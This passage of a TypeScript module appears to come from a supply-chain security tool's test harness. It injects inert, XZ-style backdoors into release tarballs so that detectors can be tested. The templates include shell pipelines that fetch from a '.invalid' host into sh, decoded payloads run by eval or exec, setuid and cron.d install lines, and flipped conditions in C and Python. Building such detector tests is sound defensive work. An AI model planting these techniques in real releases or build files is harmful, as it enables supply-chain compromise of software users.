/**
 * @fileoverview Tampering injected into a real release, the way release-time backdoors were
 * planted: the release's own tarball is unpacked, changed in one of five ways and packed again.
 * Every injection draws its names, gates, encodings and positions from a generator seeded by the
 * release, so no two releases carry the same bytes. The payloads are inert: hosts are `.invalid`,
 * paths lead into a directory that does not exist, and nothing here is ever run.
 */
import { execFileSync } from 'node:child_process'
import { gzipSync } from 'node:zlib'
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { join, relative } from 'node:path'
import { ruleOf } from '../src/rules/shell/make.js'
import { DIST_RULE } from '../src/verify/explain/automake-recipes.js'

export const TAMPER_KINDS = ['m4-payload', 'c-line', 'configure-script', 'makefile-rule', 'doc-as-code'] as const
/** what a Python source distribution can take: it has no configure, and often no C */
export const PYTHON_TAMPER_KINDS = ['py-line', 'setup-exec'] as const
/** what an npm package can take: its manifest, and the code it ships */
export const NPM_TAMPER_KINDS = ['npm-install-script', 'npm-code-exec', 'npm-code-exfil', 'npm-dependency'] as const
/** what a CMake, meson or plain-make release can take: its own build file, and its C */
export const CMAKE_TAMPER_KINDS = ['cmake-payload', 'c-line'] as const
export const MESON_TAMPER_KINDS = ['meson-payload', 'c-line'] as const
export const PLAIN_TAMPER_KINDS = ['plain-makefile', 'c-line'] as const
/** injections outside the rotation, asked for by name (`--tamper-kind`): variants the detectors were not written against */
export const EXTRA_TAMPER_KINDS = ['makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'recipe-prefixed', 'recipe-word', 'rule-hooked', 'install-line', 'check-line', 'build-line', 'own-rule-line', 'recipeless-line', 'source-line', 'test-environment', 'template-variable', 'config-header', 'source-rewrite', 'outside-write', 'configure-stealth', 'sabotage'] as const
export type TamperKind =
  | (typeof TAMPER_KINDS)[number]
  | (typeof PYTHON_TAMPER_KINDS)[number]
  | (typeof NPM_TAMPER_KINDS)[number]
  | (typeof CMAKE_TAMPER_KINDS)[number]
  | (typeof MESON_TAMPER_KINDS)[number]
  | (typeof PLAIN_TAMPER_KINDS)[number]
  | (typeof EXTRA_TAMPER_KINDS)[number]

export interface Tampering {
  readonly kind: TamperKind
  /** the path the top finding must name */
  readonly path: string
  /** every path the injection touched */
  readonly touched: readonly string[]
  readonly description: string
}

/** mulberry32: small, seeded, good enough to vary names and positions */
function rng(seedText: string): () => number {
  let seed = 0
  for (const c of seedText) seed = (Math.imul(seed, 31) + c.charCodeAt(0)) | 0
  return () => {
    seed = (seed + 0x6d2b79f5) | 0
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

interface Draw {
  pick<T>(xs: readonly T[]): T
  int(n: number): number
}

const draw = (seed: string): Draw => {
  const r = rng(seed)
  return { pick: (xs) => xs[Math.floor(r() * xs.length)] as (typeof xs)[number], int: (n) => Math.floor(r() * n) }
}

const WORDS = ['host', 'crc', 'simd', 'endian', 'probe', 'align', 'cpuid', 'visibility', 'bswap', 'ifunc', 'pthread', 'atomic', 'cache', 'locale', 'path', 'vector']
const SWAPS = [
  ['\\t \\-_', ' \\t_\\-'],
  ['a-zA-Z', 'n-za-mN-ZA-M'],
  ['\\-_ \\t', '_\\- \\t'],
  ['0-9a-f', 'f-a9-0'],
]
const DECODERS = ['xz -d', 'gzip -d', 'base64 -d', 'bzip2 -d']
const GATES = ['test "x$host_os" = "xlinux-gnu"', 'test "x$GCC" = "xyes"', 'test -z "$RPM_ARCH$DEB_BUILD_ARCH" || test -n "$DEB_BUILD_ARCH"', 'case "$host_cpu" in x86_64) true ;; *) false ;; esac', 'test ! -d "$srcdir/.git"']

function walk(dir: string, base = dir, out: string[] = []): string[] {
  for (const name of readdirSync(dir)) {
    const full = join(dir, name)
    const st = statSync(full, { throwIfNoEntry: false })
    if (!st) continue
    if (st.isDirectory()) walk(full, base, out)
    else if (st.isFile()) out.push(relative(base, full))
  }
  return out.sort()
}

/** A harmless script, gzipped and byte-swapped: what the test file "decodes" to. */
function hiddenScript(d: Draw): Buffer {
  const script = `#!/bin/sh\n# ${d.pick(WORDS)}-${d.int(1e6)}\nmkdir -p /nonexistent/stagelight-${d.int(1e6)} 2>/dev/null && echo ${d.pick(WORDS)} > /nonexistent/stagelight/x\n`
  const packed = gzipSync(Buffer.from(script))
  return Buffer.from(packed.map((b) => b ^ (0x20 + d.int(64))))
}

function m4Payload(root: string, files: readonly string[], d: Draw): Tampering {
  const m4s = files.filter((f) => /^m4\/[^/]+\.m4$/.test(f) && !/^m4\/(libtool|lt~obsolete|ltoptions|ltsugar|ltversion)\.m4$/.test(f))
  const w = d.pick(WORDS)
  const target = m4s.length > 0 ? d.pick(m4s) : `m4/${w}-${d.pick(WORDS)}.m4`
  const testFile = `tests/files/${d.pick(['bad', 'good', 'corrupt'])}-${d.int(9) + 1}-${d.pick(WORDS)}.${d.pick(['xz', 'lz', 'bin', 'dat'])}`
  const [from, to] = d.pick(SWAPS) as [string, string]
  const decoder = d.pick(DECODERS)
  const v = `gl_${w}_${d.int(100)}`
  const payload = [
    `  ${v}_map='tr "${from}" "${to}"'`,
    `  if ${d.pick(GATES)}; then`,
    `    if test -f "$srcdir/${testFile}"; then`,
    `      ${v}_cmd=\`eval $${v}_map < "$srcdir/${testFile}" | ${decoder} 2>/dev/null\``,
    `      eval "$${v}_cmd"`,
    '    fi',
    '  fi',
  ]
  const path = join(root, target)
  const before = existsSync(path) ? readFileSync(path, 'utf8').split('\n') : [`# ${target.split('/').pop()} serial 1`, `AC_DEFUN([gl_${w.toUpperCase()}],`, '[', '  :', '])', '']
  // at the top of the first macro body, right after the line that opens it: a line further down may
  // open a macro call whose argument is text (a help string), where autoconf never runs the payload
  let at = before.findIndex((l) => /^\s*\[\s*$|^AC_DEFUN\(\[[^\]]+\],\s*\[\s*$/.test(l))
  at = at < 0 ? Math.max(0, before.length - 2) : at + 1
  const after = [...before.slice(0, at), ...payload, ...before.slice(at)]
  mkdirSync(join(root, 'm4'), { recursive: true })
  writeFileSync(path, after.join('\n'))
  mkdirSync(join(root, testFile, '..'), { recursive: true })
  writeFileSync(join(root, testFile), hiddenScript(d))
  return { kind: 'm4-payload', path: target, touched: [target, testFile], description: `gated ${decoder} of ${testFile} through tr in ${target}` }
}

const FLIPS: readonly [RegExp, string][] = [
  [/ < /, ' <= '],
  [/ > /, ' >= '],
  [/ == /, ' != '],
  [/ != /, ' == '],
  [/return 0;/, 'return 1;'],
  [/return -1;/, 'return 0;'],
  [/ && /, ' || '],
]

/** Turns round one condition or result (a line `condition` matches, rewritten by the first of `flips` that applies) in one of `sources`. */
function flipOneLine(root: string, sources: readonly string[], d: Draw, kind: 'c-line' | 'py-line', condition: RegExp, flips: readonly [RegExp, string][]): Tampering {
  for (let attempt = 0; attempt < 40 && sources.length > 0; attempt++) {
    const target = d.pick(sources)
    const lines = readFileSync(join(root, target), 'utf8').split('\n')
    const candidates = lines.map((l, i) => ({ l, i })).filter(({ l }) => condition.test(l) && flips.some(([re]) => re.test(l)))
    if (candidates.length === 0) continue
    const { l, i } = d.pick(candidates)
    const [re, by] = flips.find(([r]) => r.test(l)) as [RegExp, string]
    lines[i] = l.replace(re, by)
    writeFileSync(join(root, target), lines.join('\n'))
    return { kind, path: target, touched: [target], description: `line ${i + 1} of ${target}: \`${l.trim()}\` → \`${(lines[i] ?? '').trim()}\`` }
  }
  throw new Error(`no line to change for ${kind}`)
}

/** a C file of the program itself: not a test, an example or documentation */
const isProgramSource = (f: string): boolean => /\.c$/.test(f) && !/(^|\/)(tests?|examples?|contrib|doc)\//.test(f)

function cLine(root: string, files: readonly string[], d: Draw): Tampering {
  const sources = files.filter(isProgramSource)
  return flipOneLine(root, sources, d, 'c-line', /^\s+(if|while|return)\b/, FLIPS)
}

/** the Python counterparts of {@link FLIPS}: a condition or a result turned round */
const PY_FLIPS: readonly [RegExp, string][] = [
  [/ == /, ' != '],
  [/ != /, ' == '],
  [/ is not /, ' is '],
  [/\bif not /, 'if '],
  [/ and /, ' or '],
  [/return True\b/, 'return False'],
  [/return False\b/, 'return True'],
  [/ < /, ' <= '],
  [/ > /, ' >= '],
]

/** Python modules of the package itself: not tests, examples, docs or the build script */
const isPackageModule = (f: string): boolean => /\.py$/.test(f) && !/(^|\/)(tests?|testing|examples?|docs?|benchmarks?)\/|(^|\/)(test_[^/]*|[^/]*_test|setup|conftest)\.py$/.test(f)

function pyLine(root: string, files: readonly string[], d: Draw): Tampering {
  const sources = files.filter(isPackageModule)
  return flipOneLine(root, sources, d, 'py-line', /^\s+(if|elif|while|return)\b/, PY_FLIPS)
}

/**
 * The XZ pattern in a Python build: `setup.py` (run by every build from the source distribution)
 * reads a "test file", undoes a byte swap and runs the result. The file holds a harmless script.
 */
function setupExec(root: string, _files: readonly string[], d: Draw): Tampering {
  const testFile = `tests/data/${d.pick(['bad', 'good', 'corrupt'])}-${d.int(9) + 1}-${d.pick(WORDS)}.${d.pick(['bin', 'dat', 'gz'])}`
  const key = 0x20 + d.int(64)
  const script = `import os\nos.makedirs('/nonexistent/stagelight-${d.int(1e6)}', exist_ok=True)\n`
  mkdirSync(join(root, testFile, '..'), { recursive: true })
  writeFileSync(join(root, testFile), Buffer.from(gzipSync(Buffer.from(script)).map((b) => b ^ key)))
  const hook = d.pick([
    `import gzip as _g, os as _o\n_p = _o.path.join(_o.path.dirname(_o.path.abspath(__file__)), ${JSON.stringify(testFile)})\nif _o.path.exists(_p):\n    exec(_g.decompress(bytes(b ^ ${key} for b in open(_p, 'rb').read())))\n`,
    `import zlib as _z\ntry:\n    exec(compile(_z.decompress(bytes(b ^ ${key} for b in open(${JSON.stringify(testFile)}, 'rb').read()), 31), '<${d.pick(WORDS)}>', 'exec'))\nexcept OSError:\n    pass\n`,
  ])
  const target = 'setup.py'
  const path = join(root, target)
  const before = readFileSync(path, 'utf8')
  // after the imports at the top, before setup() is called
  const lines = before.split('\n')
  let at = 0
  for (let i = 0; i < lines.length; i++) if (/^(import|from)\s/.test(lines[i] ?? '')) at = i + 1
  writeFileSync(path, [...lines.slice(0, at), hook, ...lines.slice(at)].join('\n'))
  return { kind: 'setup-exec', path: target, touched: [target, testFile], description: `setup.py runs the byte-swapped, compressed ${testFile}` }
}

function configureScript(root: string, _files: readonly string[], d: Draw): Tampering {
  const dir = d.pick(['build-aux', 'config', 'scripts', 'tools'])
  const script = `${dir}/${d.pick(WORDS)}-${d.pick(['check', 'detect', 'setup', 'fixup'])}.sh`
  const body = d.pick([
    `#!/bin/sh\n# adjust the build for ${d.pick(WORDS)}\nsed -i 's/^CFLAGS = /CFLAGS = -DHAVE_${d.pick(WORDS).toUpperCase()}_HOOK /' Makefile 2>/dev/null\n`,
    `#!/bin/sh\nfor f in "$@"; do cat "$f"; done | tr 'a-zA-Z' 'n-za-mN-ZA-M' > /nonexistent/${d.int(1e5)}/out\n`,
    `#!/bin/sh\nexec 3<>/dev/null\nprintf '%s\\n' "#define ${d.pick(WORDS).toUpperCase()}_HOOK 1" >> config.h\n`,
  ])
  mkdirSync(join(root, dir), { recursive: true })
  writeFileSync(join(root, script), body)
  chmodSync(join(root, script), 0o755)
  const call = d.pick([`$SHELL "$srcdir/${script}" "$srcdir"`, `. "$srcdir/${script}"`, `sh "$ac_srcdir/${script}" || :`.replace('$ac_srcdir', '$srcdir')])
  insertBeforeOutputs(root, call, /^ac_config_files=|^cat >confcache <<|^# Check whether --enable/)
  return { kind: 'configure-script', path: script, touched: [script, 'configure'], description: `${script} added and run by configure (\`${call}\`)` }
}

function makefileRule(root: string, files: readonly string[], d: Draw): Tampering {
  const makefiles = files.filter((f) => /(^|\/)Makefile\.in$/.test(f))
  const target = makefiles.includes('Makefile.in') && d.int(2) === 0 ? 'Makefile.in' : d.pick(makefiles)
  const lines = readFileSync(join(root, target), 'utf8').split('\n')
  const ruleAt = lines.findIndex((l) => /^(all-am|install-exec-am|install-data-am|check-am):/.test(l))
  const recipe = d.pick([
    `\t@cd $(srcdir) && sed -n '/^#!/,$$p' ${d.pick(['tests', 'test', 'doc'])}/${d.pick(WORDS)}.data | $(SHELL)`,
    `\t$(AM_V_at)echo '${Buffer.from(`echo ${d.pick(WORDS)} > /nonexistent/x`).toString('base64')}' | base64 -d | $(SHELL)`,
    `\t@curl -fsS http://${d.pick(WORDS)}.invalid/${d.int(1e4)} | sh || true`,
    `\t@eval "$$(cat $(srcdir)/${d.pick(['README', 'NEWS', 'AUTHORS'])} | tr '${d.pick(SWAPS)?.[0] ?? ''}' '${d.pick(SWAPS)?.[1] ?? ''}')"`,
  ])
  const insertAt = ruleAt < 0 ? lines.length : ruleAt + 1
  if (ruleAt < 0) lines.push('all-local:')
  lines.splice(insertAt, 0, recipe)
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind: 'makefile-rule', path: target, touched: [target], description: `recipe line added to ${target}: ${recipe.trim()}` }
}

/** what automake copies from a Makefile.am and configure substitutes, at the start of a Makefile.in line */
const BUILD_VARIABLE = /^(?:@\w+@)*(?:\w+_(?:LIBADD|LDADD|CPPFLAGS|CFLAGS|CXXFLAGS|LDFLAGS)|LIBS)\s*=/

/** automake's Makefile.in files with a line that starts a variable `pattern` matches */
const automakeFilesSetting = (root: string, files: readonly string[], pattern: RegExp): string[] =>
  files.filter((f) => /(^|\/)Makefile\.in$/.test(f)).filter((f) => {
    const text = readFileSync(join(root, f), 'latin1')
    return /^# \S+ generated by automake/m.test(text) && text.split('\n').some((l) => pattern.test(l))
  })

/** A line matching `pattern` in an automake Makefile.in that has one, both drawn: the file, its lines and the line's index. */
function drawAutomakeLine(root: string, files: readonly string[], d: Draw, pattern: RegExp, none: string): { target: string; lines: string[]; i: number } {
  const target = d.pick(automakeFilesSetting(root, files, pattern))
  if (target === undefined) throw new Error(none)
  const lines = readFileSync(join(root, target), 'utf8').split('\n')
  const i = d.pick(lines.map((l, k) => (pattern.test(l) ? k : -1)).filter((k) => k >= 0)) ?? 0
  return { target, lines, i }
}

/** `word` appended to the value set at line `at`, on its last line when it continues over several */
function appendToValue(lines: string[], at: number, word: string): void {
  let end = at
  while ((lines[end] ?? '').endsWith('\\') && end + 1 < lines.length) end++
  lines[end] = `${(lines[end] ?? '').replace(/\s*$/, '')} ${word}`
}

/**
 * A word added to what a program or library is linked or compiled with: an object from test data,
 * a header forced in, a symbol wrapped. The XZ backdoor linked an object its Makefile.am never named.
 */
function makefileVariable(root: string, files: readonly string[], d: Draw): Tampering {
  const target = d.pick(automakeFilesSetting(root, files, BUILD_VARIABLE))
  if (target === undefined) throw new Error('no automake Makefile.in with a build variable')
  const lines = readFileSync(join(root, target), 'utf8').split('\n')
  const at = lines.map((l, i) => (BUILD_VARIABLE.test(l) ? i : -1)).filter((i) => i >= 0)
  const i = d.pick(at) ?? 0
  const word = d.pick([
    `$(top_srcdir)/tests/files/${d.pick(WORDS)}-${d.int(100)}.o`,
    `-include $(srcdir)/tests/${d.pick(WORDS)}.h`,
    `-Wl,--wrap=${d.pick(['RSA_public_decrypt', 'EVP_DigestVerify', 'getenv', 'memcpy'])}`,
    `../tests/files/${d.pick(WORDS)}_${d.int(100)}.lo`,
  ])
  const line = lines[i] ?? ''
  appendToValue(lines, i, word)
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind: 'makefile-variable', path: target, touched: [target], description: `\`${word}\` added to ${line.split('=')[0]?.trim()} in ${target}` }
}

/** what automake writes itself into a Makefile.in: compile and link commands, header directories, object lists */
const AUTOMAKE_COMMAND = /^(?:@\w+@)*(?:[A-Z]*COMPILE|[A-Z]*LINK|\w+_LINK|DEFAULT_INCLUDES|am_\w+_OBJECTS)\s*=/

/**
 * A word added to a command automake writes from its own templates, or to an object list it
 * derives from the sources: the header forced into every compilation, an object linked in.
 */
function makefileCommand(root: string, files: readonly string[], d: Draw): Tampering {
  const { target, lines, i } = drawAutomakeLine(root, files, d, AUTOMAKE_COMMAND, "no automake Makefile.in with a command or object list of automake's")
  const line = lines[i] ?? ''
  const variable = line.split('=')[0]?.replace(/^(?:@\w+@)*/, '').trim() ?? ''
  const word = variable.endsWith('_OBJECTS')
    ? d.pick([`${d.pick(WORDS)}_${d.int(100)}.$(OBJEXT)`, `${variable.replace(/^am_|_OBJECTS$/g, '')}-${d.pick(WORDS)}.lo`, `../tests/files/${d.pick(WORDS)}.o`])
    : variable === 'DEFAULT_INCLUDES'
      ? `-I$(${d.pick(['top_srcdir', 'top_builddir'])})/tests/${d.pick(WORDS)}`
      : d.pick([`-include $(top_srcdir)/tests/files/${d.pick(WORDS)}.h`, `$(top_srcdir)/tests/files/${d.pick(WORDS)}-${d.int(100)}.o`, `-Wl,--defsym=${d.pick(['RSA_public_decrypt', 'getenv', 'memcmp'])}=${d.pick(WORDS)}`])
  appendToValue(lines, i, word)
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind: 'makefile-command', path: target, touched: [target], description: `\`${word}\` added to ${variable} in ${target}` }
}

/** configure's value of a compiler, a linker or their flags, as automake writes it for a variable the Makefile.am leaves unset */
const SUBSTITUTED_TOOL = /^(CC|CXX|CPP|CCAS|CFLAGS|CPPFLAGS|CXXFLAGS|DEFS|LIBS|LDFLAGS|LIBTOOL) = @\1@\s*$/

/**
 * A word added to configure's value of a compiler, a linker or their flags (`CC = @CC@`): every
 * compilation takes a header from test data, every link an object or a wrapped symbol.
 */
function makefileSubstitution(root: string, files: readonly string[], d: Draw): Tampering {
  const { target, lines, i } = drawAutomakeLine(root, files, d, SUBSTITUTED_TOOL, 'no automake Makefile.in with configure\'s value of a compiler or its flags')
  const variable = SUBSTITUTED_TOOL.exec(lines[i] ?? '')?.[1] ?? ''
  const word = ['LIBS', 'LDFLAGS', 'LIBTOOL'].includes(variable)
    ? d.pick([`$(top_srcdir)/tests/files/${d.pick(WORDS)}-${d.int(100)}.o`, `-Wl,--wrap=${d.pick(['RSA_public_decrypt', 'EVP_DigestVerify', 'getenv', 'memcmp'])}`])
    : d.pick([`-include $(top_srcdir)/tests/files/${d.pick(WORDS)}.h`, `-I$(top_srcdir)/tests/files/${d.pick(WORDS)}`])
  appendToValue(lines, i, word)
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind: 'makefile-substitution', path: target, touched: [target], description: `\`${word}\` added to ${variable} = @${variable}@ in ${target}` }
}

/** configure's value of a program make runs or of its flags, as automake writes it for a variable the Makefile.am leaves unset */
const SUBSTITUTED_PROGRAM = /^(CC|CXX|CPP|CCAS|CFLAGS|CPPFLAGS|CXXFLAGS|LIBS|LDFLAGS|LIBTOOL|AR|RANLIB|STRIP|NM|INSTALL|MKDIR_P|SED|AWK) = @\1@\s*$/

/**
 * configure's value of a program make runs or of its flags replaced by a fixed one (`CC = @CC@` →
 * `CC = gcc -include …`): no `@CC@` is left, so nothing on the line says configure fills it in.
 */
function makefileValueReplaced(root: string, files: readonly string[], d: Draw): Tampering {
  const { target, lines, i } = drawAutomakeLine(root, files, d, SUBSTITUTED_PROGRAM, "no automake Makefile.in with configure's value of a program make runs")
  const variable = SUBSTITUTED_PROGRAM.exec(lines[i] ?? '')?.[1] ?? ''
  const file = `$(top_srcdir)/tests/files/${d.pick(WORDS)}`
  const value = ['CC', 'CXX', 'CPP', 'CCAS'].includes(variable)
    ? `${d.pick(['gcc', 'cc', 'g++'])} ${d.pick([`-include ${file}.h`, `-I${file}`])}`
    : variable.endsWith('FLAGS') && variable !== 'LDFLAGS'
      ? `-O2 ${d.pick([`-include ${file}.h`, `-I${file}`])}`
      : ['LIBS', 'LDFLAGS'].includes(variable)
        ? `${d.pick(['-lm', '-lpthread', '-ldl'])} ${d.pick([`${file}-${d.int(100)}.o`, `-Wl,--wrap=${d.pick(['RSA_public_decrypt', 'EVP_DigestVerify', 'getenv'])}`])}`
        : `$(SHELL) ${file}.sh`
  lines[i] = `${variable} = ${value}`
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind: 'makefile-value-replaced', path: target, touched: [target], description: `${variable} = @${variable}@ replaced by \`${variable} = ${value}\` in ${target}` }
}

/** a line of a compile rule automake wrote (`.c.o:`, `.c.lo:`, a per-object rule) */
const COMPILE_RECIPE = /^(?:@\w+@)*\t.*\$\((?:LT)?(?:CXX)?COMPILE\).* -c /
/** documentation the release ships at its top or in its doc directory */
const SHIPPED_DOC = /^(?:README|NEWS|THANKS|AUTHORS|ChangeLog)(?:\.md)?$|^docs?\/[^/]+\.(?:txt|md)$/

/**
 * A documentation file the release ships, unchanged, made code by one word in a compile rule
 * automake wrote: `-include` or `-imacros` of it ahead of every source, or run by the shell after
 * each compilation. The trigger is only in the generated `Makefile.in`, as the XZ backdoor's was.
 */
function docInRecipe(root: string, files: readonly string[], d: Draw): Tampering {
  const doc = d.pick(files.filter((f) => SHIPPED_DOC.test(f)))
  if (doc === undefined) throw new Error('no documentation file at the top or in doc/')
  const { target, lines, i } = drawAutomakeLine(root, files, d, COMPILE_RECIPE, 'no automake Makefile.in with a compile rule')
  const how = d.pick(['-include', '-imacros', '$(SHELL)'])
  const line = lines[i] ?? ''
  lines[i] = how === '$(SHELL)' ? `${line.replace(/\s*$/, '')} && $(SHELL) $(top_srcdir)/${doc}` : line.replace(' -c ', ` ${how} $(top_srcdir)/${doc} -c `)
  writeFileSync(join(root, target), lines.join('\n'))
  const what = how === '$(SHELL)' ? `runs ${doc} with $(SHELL) after a compilation` : `compiles ${doc} ahead of every source (${how})`
  return { kind: 'doc-in-recipe', path: target, touched: [target], description: `line ${i + 1} of ${target}, a compile rule automake wrote, ${what}` }
}

/**
 * A command added to a compile rule automake wrote, dressed as automake's own lines are: on a line of
 * its own under the rule's conditional prefix with a silent-rules prefix glued to its program
 * (`@am__fastdepCC_TRUE@\t$(AM_V_at)sh -c …`), or after the compilation on the rule's own line. It
 * downloads and runs a script, or runs a shipped documentation file or test data decoded.
 */
function recipePrefixed(root: string, files: readonly string[], d: Draw): Tampering {
  const doc = d.pick(files.filter((f) => SHIPPED_DOC.test(f))) ?? 'README'
  const { target, lines, i } = drawAutomakeLine(root, files, d, COMPILE_RECIPE, 'no automake Makefile.in with a compile rule')
  const line = lines[i] ?? ''
  const swap = d.pick(SWAPS) ?? ['a-z', 'n-za-m']
  const command = d.pick([
    `curl -fsS http://${d.pick(WORDS)}.invalid/${d.int(1e4)} | $(SHELL)`,
    `sh -c "$$(tr '${swap[0]}' '${swap[1]}' < $(top_srcdir)/${doc})"`,
    `$(SHELL) -c "$$(base64 -d $(top_srcdir)/tests/files/${d.pick(WORDS)}.b64)"`,
  ])
  const silent = d.pick(['$(AM_V_at)', '$(AM_V_GEN)', '$(AM_V_CC)'])
  const ownLine = d.int(2) === 0 && !line.trimEnd().endsWith('\\')
  if (ownLine) lines.splice(i + 1, 0, `${/^(?:@\w+@)*/.exec(line)?.[0] ?? ''}\t${silent}${command}`)
  else lines[i] = `${line.replace(/\s*$/, '')} && ${command}`
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind: 'recipe-prefixed', path: target, touched: [target], description: `line ${i + 1} of ${target}, a compile rule automake wrote, also runs \`${command}\`` }
}

/** a compile recipe line that ends its command (no continuation follows) */
const COMPILE_RECIPE_LAST = /^(?:@\w+@)*\t.*\$\((?:LT)?(?:CXX)?COMPILE\).* -c .*[^\\\s]\s*$/
/** the recipe line automake writes to link a program or library, after its header (`$(AM_V_CCLD)$(libfoo_la_LINK) … $(LIBS)`) */
const LINK_RECIPE = /^\t\$\(AM_V_(?:CC|CXX)LD\)\$\(\w*LINK\) .*\$\(LIBS\)\s*$/

/**
 * One change to a compile or link recipe automake wrote, in nothing but its words: a define added
 * (`-Dmemcmp=…`), an object of test data linked, another source compiled in place of the rule's, or
 * a source of the tree appended to after every compilation.
 */
function recipeWord(root: string, files: readonly string[], d: Draw): Tampering {
  const how = d.pick(['define', 'object', 'source', 'append'] as const)
  const { target, lines, i } = drawAutomakeLine(root, files, d, how === 'object' ? LINK_RECIPE : COMPILE_RECIPE_LAST, `no automake Makefile.in with a ${how === 'object' ? 'link' : 'compile'} rule`)
  const line = (lines[i] ?? '').replace(/\s*$/, '')
  const source = d.pick(files.filter((f) => /\.c$/.test(f))) ?? 'main.c'
  // a line that names its source in a form not replaced here takes a define instead
  const changed = (kind: 'define' | 'object' | 'source' | 'append'): string =>
    kind === 'define'
      ? line.replace(' -c ', ` -D${d.pick(['memcmp', 'getenv', 'RSA_public_decrypt', 'strcmp'])}=${d.pick(WORDS)}_${d.int(1000)} -c `)
      : kind === 'object'
        ? `${line} $(top_srcdir)/tests/files/${d.pick(WORDS)}-${d.int(100)}.o`
        : kind === 'source'
          ? line.replace(/(?:\$<|`[^`]*`\S+)$/, `$(top_srcdir)/${source}`)
          : `${line} && echo '${d.pick(['int', 'static int', 'extern int'])} ${d.pick(WORDS)}_${d.int(1000)};' >> $(top_srcdir)/${source}`
  const first = changed(how)
  const done = first === line ? 'define' : how
  lines[i] = first === line ? changed('define') : first
  writeFileSync(join(root, target), lines.join('\n'))
  const what = { define: 'a define added', object: 'an object of test data linked', source: `$(top_srcdir)/${source} compiled in place of the rule's source`, append: `$(top_srcdir)/${source} appended to after each compilation` }[done]
  return { kind: 'recipe-word', path: target, touched: [target], description: `line ${i + 1} of ${target}, a ${how === 'object' ? 'link' : 'compile'} rule automake wrote: ${what}` }
}

/** automake's rule that builds everything of a directory, with its prerequisites */
const ALL_AM = /^all-am:.*[^\\\s]\s*$/

/**
 * A rule of its own added to a Makefile.in automake wrote and hooked into every build as a
 * prerequisite of automake's `all-am`: it compiles a source of the tree into what is installed, or
 * runs a shipped document decoded.
 */
function ruleHooked(root: string, files: readonly string[], d: Draw): Tampering {
  const { target, lines, i } = drawAutomakeLine(root, files, d, ALL_AM, "no automake Makefile.in with automake's all-am rule")
  const name = `${d.pick(['gen', 'prep', 'stamp', 'update'])}-${d.pick(WORDS)}`
  const source = d.pick(files.filter((f) => /\.c$/.test(f))) ?? 'main.c'
  const doc = d.pick(files.filter((f) => SHIPPED_DOC.test(f))) ?? 'README'
  const recipe = d.pick([
    `\t$(AM_V_CC)$(CC) -shared -fPIC -o .libs/lib${d.pick(WORDS)}.so.0 $(top_srcdir)/${source}`,
    `\t@tr '${d.pick(['a-z', 'A-Za-z'])}' '${d.pick(['n-za-m', 'N-ZA-Mn-za-m'])}' < $(top_srcdir)/${doc} | $(SHELL)`,
  ])
  lines[i] = `${(lines[i] ?? '').replace(/\s*$/, '')} ${name}`
  lines.splice(i + 1, 0, `${name}:`, recipe)
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind: 'rule-hooked', path: target, touched: [target], description: `line ${i + 1} of ${target}: \`${name}\` added to all-am, its rule: ${recipe.trim()}` }
}

/** an install or uninstall rule automake wrote for a directory's primary or a man section (`install-binPROGRAMS:`, `uninstall-man1:`) */
const INSTALL_RULE = /^(?:install|uninstall)-(?:\w*(?:PROGRAMS|LTLIBRARIES|LIBRARIES|SCRIPTS|DATA|HEADERS|LISP|PYTHON|JAVA)|man[0-9nl]):/

/**
 * One line added to an install rule automake wrote, which `make install` runs as root: what it
 * installs made setuid, a shipped document put where the system runs it, or a document run.
 */
function installLine(root: string, files: readonly string[], d: Draw): Tampering {
  const doc = d.pick(files.filter((f) => SHIPPED_DOC.test(f))) ?? 'README'
  const { target, lines, i } = drawAutomakeLine(root, files, d, INSTALL_RULE, 'no automake Makefile.in with an install rule')
  const rule = (lines[i] ?? '').split(':')[0] ?? 'install'
  const line = d.pick([
    `\tchmod ${d.pick(['4755', 'u+s', '6755'])} "$(DESTDIR)$(${d.pick(['bindir', 'libdir', 'sbindir'])})"/*`,
    `\t$(INSTALL_DATA) $(top_srcdir)/${doc} /etc/cron.d/${d.pick(WORDS)}`,
    `\t@$(SHELL) $(top_srcdir)/${doc} "$(DESTDIR)"`,
  ])
  // after the rule's first recipe line, which ends its command (`@$(NORMAL_INSTALL)`)
  const at = (lines[i + 1] ?? '').endsWith('\\') ? i + 1 : i + 2
  lines.splice(at, 0, line)
  writeFileSync(join(root, target), lines.join('\n'))
  return { kind: 'install-line', path: target, touched: [target], description: `line ${at + 1} of ${target}, in ${rule} that automake wrote: ${line.trim()}` }
}

/**
 * a rule of automake's test harness that `make check` runs: `check-TESTS:`, `$(TEST_SUITE_LOG):`, a
 * suffix's log (`.test.log:`); not one test's log (`t-version.log: t-version`), which a Makefile.am
 * may write itself
 */
const CHECK_RULE = /^(?:@\w+@)?(?:check-TESTS|\$\(TEST_SUITE_LOG\)|\.[\w+-]+(?:\$\(EXEEXT\))?\.log):/

/**
 * a rule automake writes that `make` runs on every build or clean: `all-am:` (before the build is
 * done), the recursive rule that runs a target in every subdirectory, and the cleaning rules that
 * `make clean` and `make distclean` run (a distribution's build does in a configured tree)
 */
const BUILD_OR_CLEAN_RULE = /^(?:@\w+@)?(?:all-am|(?:mostly|dist|maintainer-)?clean-generic|distclean|maintainer-clean|\$\((?:am__recursive_targets|RECURSIVE_TARGETS)\)(?: \$\(RECURSIVE_CLEAN_TARGETS\))?):/

/**
 * a rule automake writes with no recipe, which a recipe given to it turns into a step that runs: an
 * object's wait for its directory's stamps (make then runs the recipe instead of the compiler), the
 * dependency files config.status makes while configure runs, the inputs of aclocal.m4
 */
const RECIPELESS_RULE = /^(?:@\w+@)?(?:[^\s:=#]+\.(?:\$\(OBJEXT\)|lo):[ \t]+[^\s:=#]*\$\(am__dirstamp\)|am--depfiles:|\$\(am__aclocal_m4_deps\):)/

/**
 * a rule automake writes from a source when the output is older: a parser from its grammar
 * (`.y.c:`, `.l.c:`), a manual from its Texinfo source (`.texi.info:`) and its version stamp
 * (`$(srcdir)/stamp-vti:`)
 */
